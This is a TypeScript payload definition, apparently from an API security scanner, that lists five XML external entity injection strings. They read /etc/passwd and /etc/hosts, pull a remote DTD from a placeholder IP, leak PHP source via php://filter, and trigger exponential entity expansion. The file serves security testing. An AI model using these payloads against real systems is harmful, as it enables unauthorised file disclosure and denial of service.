import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'injection-xxe',
  title: 'external entities in XML',
  owasp: ['API8:2023'],
  inputs: ['xml'],
  values: [
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://203.0.113.9/#.dtd"> %p;]><a/>',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=index.php">]><a>&x;</a>',
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></a>',
  ],
})
